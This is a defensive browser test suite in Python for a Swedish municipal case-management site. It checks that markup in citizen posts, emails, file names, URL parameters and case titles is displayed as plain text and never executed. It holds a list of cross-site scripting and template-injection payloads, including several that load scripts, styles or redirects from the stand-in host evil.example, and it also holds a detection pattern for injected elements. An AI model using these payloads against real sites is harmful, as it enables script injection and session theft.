"""Citizens' words with mark-up in them are words: shown as they came, and never carried out."""

from __future__ import annotations

import base64
from collections.abc import Sequence
from email.message import EmailMessage
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Browse
from tests.browser.test_browser_flow import screenshot
from tests.browser.world import ASSESS, EVERYONE, World

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    '"><script src=//evil.example/x.js></script>',
    "'-alert(4)-'",
    "javascript:alert(5)",
    '<a href="javascript:alert(6)">klicka</a>',
    '<iframe srcdoc="<script>alert(7)</script>"></iframe>',
    "<body onload=alert(8)>",
    "<input autofocus onfocus=alert(9)>",
    "<details open ontoggle=alert(10)>",
    "<style>@import '//evil.example/a.css';</style>",
    "<link rel=stylesheet href=//evil.example/b.css>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Skicka</button></form>",
    "{{ 7 * 7 }}{% raise %}",
    "${alert(11)}",
    "</textarea></title><script>alert(12)</script>",
    "&lt;script&gt;alert(13)&lt;/script&gt;",
    "<math><mtext><style><img src=x onerror=alert(14)></style></mtext></math>",
)
PICTURE = base64.b64encode(screenshot()).decode()
# Mark-up that none of our pages has: any of it has come from outside.
_FOREIGN = """() => [...document.querySelectorAll([
    'script:not([src^="/static/"])', 'link:not([href^="/"], [href^="data:,"])', 'form:not([action^="/"])',
    'iframe', 'object', 'embed', 'base', 'meta[http-equiv]', 'style', 'math', 'img[src="x"]',
    '[onerror]', '[onload]', '[onfocus]', '[ontoggle]', 'a[href^="javascript"]'].join())]
    .map(e => e.outerHTML.slice(0, 120))"""


def shown_as_text(page: Page, *texts: str) -> None:
    read = page.locator("main").inner_text()
    for text in texts:
        assert text in read
    assert page.evaluate(_FOREIGN) == []


@pytest.mark.parametrize("first", range(0, len(HOSTILE), 7))
def test_hostile_words_are_shown_and_do_nothing(world: World, browse: Browse, first: int) -> None:
    part = HOSTILE[first : first + 7]
    case_id = world.post(
        "\n".join(part),
        author=" ".join(part)[:200],
        channel=part[0][:120],
        files=[
            {"name": f"{text[:60]}.png", "media_type": "image/png", "content": PICTURE} for text in part[:3]
        ],
    )
    page = browse(f"/uppgifter/{world.task(case_id)}")
    shown_as_text(page, *part)
    page.goto(f"{world.public}/arenden/{case_id}")
    shown_as_text(page, *part)
    for path in ("/inkorg?visa=alla", "/arenden", "/registrera"):
        page.goto(world.public + path)
        assert page.evaluate(_FOREIGN) == []


def test_a_hostile_mail_is_shown_and_does_nothing(world: World, browse: Browse) -> None:
    letter = EmailMessage()
    letter["From"] = '"<img src=x onerror=alert(1)>" <nils@post.example>'
    letter["To"] = "kommun@exempelkommun.example"
    letter["Subject"] = "<script>alert(2)</script>"
    letter.set_content("Hej\n" + "\n".join(HOSTILE))
    letter.add_alternative("".join(f"<p>{text}</p>" for text in HOSTILE), subtype="html")
    letter.add_attachment(
        b"<script>alert(3)</script>", maintype="text", subtype="html", filename="<svg onload=alert(4)>.html"
    )
    page = browse("/registrera/epost")
    page.get_by_label("E-brev").set_input_files(
        {"name": "brev.eml", "mimeType": "message/rfc822", "buffer": letter.as_bytes()}
    )
    page.get_by_role("button", name="Ta emot e-brevet").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Bedöm inlägget")
    shown_as_text(page, "<script>alert(2)</script>", *HOSTILE)
    page.get_by_role("link", name="Visa ärendet").click()
    shown_as_text(page, "<script>alert(2)</script>")


PLACES = (
    "/inkorg?visa=alla&sok=",
    "/arenden?sok=",
    "/inkorg?meddelande=",
    "/logga-in?till=",
    "/forsta-start?kod=",
)


@pytest.mark.parametrize("place", PLACES)
def test_hostile_words_in_an_address_do_nothing(browse: Browse, place: str) -> None:
    _visit(browse, place, HOSTILE[::4])


@pytest.mark.soak
@pytest.mark.parametrize("place", PLACES)
def test_no_hostile_word_in_any_address_does_anything(browse: Browse, place: str) -> None:
    _visit(browse, place, HOSTILE)


def _visit(browse: Browse, place: str, texts: Sequence[str]) -> None:
    page = browse(login=None if place.startswith(("/logga-in", "/forsta")) else EVERYONE)
    for text in texts:
        page.goto(browse.world.public + place + quote(text, safe=""))
        assert page.evaluate(_FOREIGN) == []


def test_what_the_registrar_types_is_text_on_every_page_after(world: World, browse: Browse) -> None:
    case_id = world.post("Hej")
    world.complete(case_id, "Bedöm", ASSESS)
    page = browse(f"/uppgifter/{world.task(case_id, 'Registrera')}")
    page.get_by_label("I ett nytt ärende").check()
    page.get_by_label("Ärendemening").fill(HOSTILE[0] + HOSTILE[1])
    page.get_by_role("button", name="Slutför uppgiften").click()
    world.until_registration(case_id, "registered")
    page.goto(f"{world.public}/arenden/{case_id}")
    shown_as_text(page, HOSTILE[0] + HOSTILE[1])
    page.goto(f"{world.public}/arenden")
    shown_as_text(page, HOSTILE[0] + HOSTILE[1])
    page.goto(world.diarium)
    shown_as_text(page, HOSTILE[0] + HOSTILE[1])
